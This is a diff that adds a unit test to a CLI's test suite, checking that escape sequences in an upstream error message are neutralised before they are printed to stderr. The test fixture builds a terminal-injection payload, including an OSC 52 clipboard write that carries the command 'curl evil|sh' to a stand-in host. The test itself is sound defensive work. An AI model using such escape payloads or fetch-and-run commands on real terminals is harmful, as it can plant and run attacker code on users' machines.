@@ -242,6 +242,17 @@ describe('yoi send: what the agent does', () => {
     expect(p.run(['cancel']).stdout).toBe('cancelled (default)\n');
   });
 
+  it("a provider's error body with escape sequences reaches stderr defused, on one line", async () => {
+    const osc52 = `\u001b]52;c;${Buffer.from('curl evil|sh').toString('base64')}\u0007`;
+    const p = project({}, [{ error: `upstream said: \u001b]0;PWNED\u0007\u001b[2J${osc52}\u009b31m` }]);
+    await podOf(p);
+    const r = p.run(['send', 'hi']);
+    expect(r.status).toBe(1);
+    expect(r.stderr).toBe(
+      'yoi: the run failed: upstream said: \ufffd]0;PWNED\ufffd\ufffd[2J\ufffd]52;c;Y3VybCBldmlsfHNo\ufffd\ufffd31m [YOI_ERR_REQUEST provider_error]\n',
+    );
+  });
+
   it('errors under --json are JSON objects on stdout', async () => {
     const p = project();
     const r = await yoiAsync(['send', '--pod', 'nobody', '--json', 'hi'], { cwd: p.dir, env: p.env });
